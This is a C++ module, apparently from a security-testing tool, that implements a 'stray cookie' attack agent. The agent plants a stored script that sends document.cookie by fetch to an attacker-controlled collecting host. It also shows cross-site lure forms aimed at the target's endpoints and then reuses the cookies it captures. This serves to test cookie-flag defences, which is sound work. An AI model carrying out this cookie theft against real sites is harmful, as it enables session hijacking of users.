// stray-cookie: where a session's cookie goes that has no business there: to a host below the app's
// (Domain), along with a form of another site (SameSite), and into the hands of a script
// (HttpOnly). The script runs where the victim's browser is older than policies, and takes the
// cookie and nothing else: what a script does within the page no flag stops (RFC 6265bis 4.1.2;
// ASVS 5.0, 3.3.2 to 3.3.4).
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/own_form.h"
#include "core/attack/page_script.h"
#include "core/attack/stored_text.h"

namespace parapet::attack {
namespace {

class StrayCookie final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        if (evil == nullptr || target.victim() == nullptr) return;
        std::string const address = collecting_address(*evil);
        StoredText text(target);
        if (text.has_place())
            text.leave("<script>" + send_script(Channel::Fetch, address, "document.cookie") +
                       "</script>");
        if (!victim_signs_in(target)) return;
        victim_does(target, routines_option(target, option::kDoes));
        if (OwnHost* below = sibling_host(target)) Lure(target, *below).show("<h1>News</h1>");
        for (Endpoint const* each : unsafe_endpoints(target))
            Lure(target, *evil)
                .show(submitting(
                    {.action = address_of(target, *each), .fields = wanted_fields(*each)}));
        use_what_came(target);
    }

    static void use_what_came(Target& target) {
        std::vector<std::string> lines;
        for (OwnHost* host : target.hosts())
            for (http::Request const& request : host->received()) {
                lines.push_back(request.body);
                if (auto const cookies = request.headers.get("cookie")) lines.push_back(*cookies);
            }
        std::erase_if(lines,
                      [](std::string const& line) { return line.find('=') == std::string::npos; });
        target.note(std::to_string(lines.size()) + " cookies came to the attacker's hosts.");
        constexpr std::size_t kMostTried = 4;
        if (lines.size() > kMostTried) lines.resize(kMostTried);
        for (std::string const& line : lines) use(target, cookies_in(line));
    }
};

}  // namespace

std::unique_ptr<Agent> make_stray_cookie() { return std::make_unique<StrayCookie>(); }

}  // namespace parapet::attack
